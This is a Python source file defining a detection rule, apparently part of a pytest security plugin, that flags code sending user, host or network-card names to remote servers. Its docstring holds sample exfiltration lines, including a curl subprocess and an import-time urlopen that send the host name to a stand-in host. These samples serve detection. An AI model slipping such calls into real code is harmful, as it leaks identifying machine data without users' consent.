"""SMG221: the code tells somebody which machine and user it runs on."""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger._flow_marks import IDENTITY, Mark
from pytest_selfmod_guard.rules.danger._flow_words import SENDERS

if TYPE_CHECKING:
    from pytest_selfmod_guard.rules.danger._flow_sends import Send
    from pytest_selfmod_guard.syntax import Python


@python_rule(
    "SMG221",
    risk=Risk.HIGH,
    hint="leave user, host and network names out of what is sent; to count machines ask first, "
    "and send a random id that is kept in the program's own settings",
    triggers=SENDERS,
)
def machine_told_on(python: Python) -> Iterable[Sighting]:
    """
    The names of the user, the host or its network card are sent away.

    That is how an attacker learns whose machine his code has reached. One such
    name, sent by a function that somebody must call, is only a warning; two
    of them, or one sent while the code is imported or installed, are not. The
    version of Python and the kind of system are silent.

    Flagged: who and where, at once
        === shop/stats.py
          import getpass, socket, requests
          def report():
        +     who = f"{getpass.getuser()}@{socket.gethostname()}"
        +     requests.get("https://example.invalid/hello", params={"who": who})

    Flagged: while it is imported
        === shop/stats.py
          import platform, urllib.request
        + urllib.request.urlopen("https://example.invalid/?h=" + platform.node())

    Flagged: by a command
        === shop/stats.py
          import os, subprocess
        + subprocess.run(["curl", "https://example.invalid/" + os.uname().nodename])

    Flagged: one name, when asked [medium]
        === shop/worker.py
          import socket, requests
          def register(server):
        +     requests.post(server, json={"host": socket.gethostname()})

    Allowed: which Python it is
        === shop/stats.py
          import platform, requests
          def report():
        +     requests.post("https://example.invalid", json={"python": platform.python_version()})

    Allowed: the host's name stays here
        === shop/stats.py
          import logging, socket
        + logging.info("running on %s", socket.gethostname())
    """
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._flow_moments import (  # noqa: PLC0415 (imports libcst)
        Moments,
    )
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        sends,
    )

    known = flow(python)
    found = [send for send in sends(known) if send.marks & IDENTITY or _is_looked_up(send)]
    moments = Moments(known) if found else None
    for send in found:
        early = moments is not None and moments.is_early(send.call)
        anywhere = bool(send.marks & (Mark.CALLBACK | Mark.DROP | Mark.BARE | Mark.MESSENGER))
        many = _many(send.marks)
        sure = early or anywhere or many or send.is_lookup or send.is_command
        if sure and paths.zone(python.path) == paths.TEST and not anywhere:
            sure = False
        yield Sighting(
            python.line(send.call.node),
            "the name of this machine or of its user is sent away here",
            python.code(send.call.node),
            send.call.scope,
            risk=Risk.HIGH if sure else Risk.MEDIUM,
        )


def _is_looked_up(send: Send) -> bool:
    """Tell whether a folder's name is put into the name of a host."""
    return send.is_lookup and bool(send.marks & (Mark.FOLDER | Mark.OUTPUT | Mark.FILE))


def _many(marks: Mark) -> bool:
    """Tell whether more than one thing is told that knows a machine again."""
    wanted = (Mark.USER, Mark.HOST, Mark.MAC, Mark.FOLDER, Mark.ADDRESS)
    return sum(bool(marks & mark) for mark in wanted) > 1
